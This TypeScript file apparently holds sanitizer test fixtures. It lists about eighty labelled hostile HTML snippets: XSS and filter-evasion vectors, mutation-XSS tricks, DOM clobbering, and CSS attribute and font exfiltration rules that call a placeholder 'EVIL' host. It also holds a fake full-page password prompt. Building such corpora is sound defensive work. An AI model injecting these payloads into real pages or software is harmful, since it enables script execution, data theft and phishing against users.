/**
 * HTML that attacks whoever reads it: an instance of our own of each class that is published (OWASP's cheat sheets on
 * filter evasion and DOM clobbering, the literature on mutation XSS, CSS exfiltration and EFAIL). `EVIL` stands for an
 * address that must never be asked for anything; what runs calls `alert`.
 */
export const HOSTILE_HTML: readonly (readonly [string, string])[] = [
  ['script', '<script>alert(1)</script>'],
  ['script from elsewhere', '<script src="EVIL/a.js"></script>'],
  ['script in mixed case', '<ScRiPt>alert(1)</sCrIpT>'],
  ['script split by its own name', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['script without an end', '<script>alert(1)//'],
  ['script with a slash in its tag', '<script/x>alert(1)</script>'],
  ['script behind an open bracket', '<<script>alert(1);//<</script>'],
  ['module and import map', '<script type="module">import "EVIL/m.js"</script>'],
  ['noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['event handler', '<img src="data:image/png;base64,AAAA" onerror="alert(1)">'],
  ['event handler without quotes', '<img src=x onerror=alert(1)>'],
  ['event handler behind a slash', '<svg/onload=alert(1)>'],
  ['event handler with a control character', '<img src=x on\u0000error=alert(1) onerror\n=alert(1)>'],
  ['handlers that need nobody', '<details open ontoggle=alert(1)><summary>x</summary></details>'],
  [
    'focus by itself',
    '<input autofocus onfocus=alert(1)><a id=x tabindex=1 autofocus onfocus=alert(1)>x</a>',
  ],
  ['animation', '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="alert(1)">x</b>'],
  ['marquee', '<marquee onstart=alert(1)>x</marquee>'],
  [
    'video and audio',
    '<video autoplay onplay=alert(1) src=EVIL/v><source src=EVIL/s onerror=alert(1)></video><audio src=EVIL/a onerror=alert(1)>',
  ],
  ['body', '<body onload=alert(1) background="EVIL/b.png">x</body>'],
  ['link of a script', '<a href="javascript:alert(1)" id=l>x</a><iframe src="javascript:alert(1)"></iframe>'],
  ['link of a script with entities', '<iframe src="&#106;&#97;vascript&colon;alert(1)"></iframe>'],
  ['link of a script with white space', '<iframe src=" \u0001java\tscri\npt:alert(1)"></iframe>'],
  ['data document', '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>'],
  [
    'data document as object',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  ],
  [
    'frame with a document in it',
    '<iframe srcdoc="<script>parent.alert(1)</script><img src=EVIL/i>"></iframe>',
  ],
  ['frame', '<iframe src="EVIL/f"></iframe><frameset><frame src="EVIL/g"></frameset>'],
  [
    'portal, fenced frame, embed',
    '<portal src="EVIL/p"></portal><embed src="EVIL/e.swf"><applet code="EVIL/c">',
  ],
  ['object', '<object data="EVIL/o"><param name="movie" value="EVIL/p"></object>'],
  ['SVG with a script', '<svg><script>alert(1)</script></svg>'],
  [
    'SVG with a handler',
    '<svg><g onload="alert(1)"></g><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  ],
  [
    'SVG that sets a link',
    '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text y=20>x</text></a></svg>',
  ],
  [
    'SVG that loads',
    '<svg><image href="EVIL/s.png"/><use href="EVIL/u.svg#x"/><feImage href="EVIL/f.png"/></svg>',
  ],
  ['SVG with HTML', '<svg><foreignObject><iframe src="EVIL/f"></iframe></foreignObject></svg>'],
  [
    'SVG as a picture',
    '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22alert(1)%22><image href=%22EVIL/x.png%22/></svg>">',
  ],
  [
    'MathML',
    '<math><mtext><a xlink:href="javascript:alert(1)">x</a></mtext><maction actiontype="statusline#EVIL">x</maction></math>',
  ],
  [
    'mutation by MathML and style',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ],
  [
    'mutation by form and table',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  ],
  ['mutation by SVG and style', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  ['mutation by noscript and template', '<template><style></template><img src=x onerror=alert(1)></style>'],
  ['mutation by a title', '<svg><title><a id="</title><img src=x onerror=alert(1)>"></title></svg>'],
  ['mutation by a comment', '<!--><img src=x onerror=alert(1)>--><!--!><img src=x onerror=alert(1)>-->'],
  ['mutation by a text area', '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>'],
  ['mutation by select', '<select><style></select><img src=x onerror=alert(1)></style></select>'],
  [
    'raw text of old',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp><plaintext><img src=x onerror=alert(1)>',
  ],
  ['CDATA', '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg><![CDATA[<img src=x onerror=alert(1)>]]>'],
  ['processing instruction', '<?xml-stylesheet href="EVIL/x.css"?><?php <img src=x onerror=alert(1)> ?>'],
  ['conditional comment', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->'],
  [
    'picture from elsewhere',
    '<img src="EVIL/pixel.gif" width=1 height=1><img srcset="EVIL/2x.png 2x" lowsrc=EVIL/l dynsrc=EVIL/d>',
  ],
  [
    'picture with another scheme',
    '<img src="//127.0.0.1:1/a"><img src="\\\\127.0.0.1\\share\\a"><img src="ftp://127.0.0.1/a">',
  ],
  ['picture element', '<picture><source srcset="EVIL/p.webp"><img src="EVIL/p.png"></picture>'],
  ['input of a picture', '<input type="image" src="EVIL/i.png"><video poster="EVIL/v.png"></video>'],
  ['table background', '<table background="EVIL/t.png"><tr><td background="EVIL/d.png">x</td></tr></table>'],
  [
    'style sheet from elsewhere',
    '<link rel="stylesheet" href="EVIL/s.css"><style>@import url(EVIL/i.css);</style>',
  ],
  [
    'style with a picture',
    '<p style="background:url(EVIL/b.png);list-style:url(\'EVIL/l.png\');content:url(EVIL/c);cursor:url(EVIL/u)">x</p>',
  ],
  [
    'style with escapes',
    '<p style="background:\\75\\72\\6c(EVIL/e.png)">x</p><p style="b\\61ckground:u/**/rl(EVIL/f)">x</p>',
  ],
  ['style with entities', '<p style="background&#58;url&#40;EVIL/n.png&#41;">x</p>'],
  [
    'style with functions',
    '<p style="background:image-set(\'EVIL/a\' 1x);background:-webkit-image-set(url(EVIL/b) 1x);mask:url(EVIL/m);filter:url(EVIL/f#x)">x</p>',
  ],
  [
    'exfiltration by attribute',
    '<style>p[title^="s"]{background:url(EVIL/s)}input[value^="1"]~*{background:url(EVIL/1)}</style><p title="secret">x</p>',
  ],
  [
    'exfiltration by fonts',
    '<style>@font-face{font-family:x;src:url(EVIL/f.woff);unicode-range:U+0041}p{font-family:x}</style><p>A</p>',
  ],
  [
    'exfiltration by scrolling',
    '<style>::-webkit-scrollbar{background:url(EVIL/b)}::first-line{background:url(EVIL/l)}</style><p>x</p>',
  ],
  [
    'old CSS that runs',
    '<p style="width:expression(alert(1));behavior:url(EVIL/x.htc);-moz-binding:url(EVIL/x.xml#x)">x</p>',
  ],
  [
    'fixed over the page',
    '<div style="position:fixed;inset:0;z-index:9999;background:red">Type your password</div>',
  ],
  ['form', '<form action="EVIL/form"><input name=a value=b><button id=b autofocus>Send</button></form>'],
  [
    'form by attribute',
    '<button form="f" formaction="javascript:alert(1)">x</button><isindex action="EVIL/i" type=image>',
  ],
  ['base', '<base href="EVIL/"><a href="x">x</a><img src="y.png"><base target="_top">'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=EVIL/refresh">'],
  ['meta refresh to a script', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  [
    'meta policy and cookies',
    '<meta http-equiv="Set-Cookie" content="a=b"><meta http-equiv="Content-Security-Policy" content="script-src *">',
  ],
  [
    'look-ups ahead',
    '<link rel="prefetch" href="EVIL/p"><link rel="preconnect" href="EVIL"><link rel="dns-prefetch" href="//evil.example"><link rel="modulepreload" href="EVIL/m">',
  ],
  ['ping', '<a href="EVIL/a" ping="EVIL/ping" id=l>x</a>'],
  ['manifest and icon', '<link rel="icon" href="EVIL/i.ico"><link rel="manifest" href="EVIL/m.json">'],
  ['track and source map', '<video><track default src="EVIL/t.vtt"></video>'],
  [
    'names that hide properties',
    '<img name="cookie"><form id="body" name="documentElement"><input name="attributes"></form>',
  ],
  ['end of the document', '</main></body></html><script>alert(1)</script><img src="EVIL/late.png">'],
  ['UTF-7', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-'],
  [
    'shadow root',
    '<div><template shadowrootmode="open"><img src="EVIL/s.png"><slot></slot></template></div>',
  ],
  [
    'custom element',
    '<x-y onclick=alert(1) style="background:url(EVIL/c)">x</x-y><button is="x-z">x</button>',
  ],
  [
    'popover and dialog',
    '<dialog open><iframe src="EVIL/d"></iframe></dialog><div popover id=p onbeforetoggle=alert(1)>x</div>',
  ],
  ['deep nesting', `${'<div>'.repeat(3000)}<img src=x onerror=alert(1)>`],
];
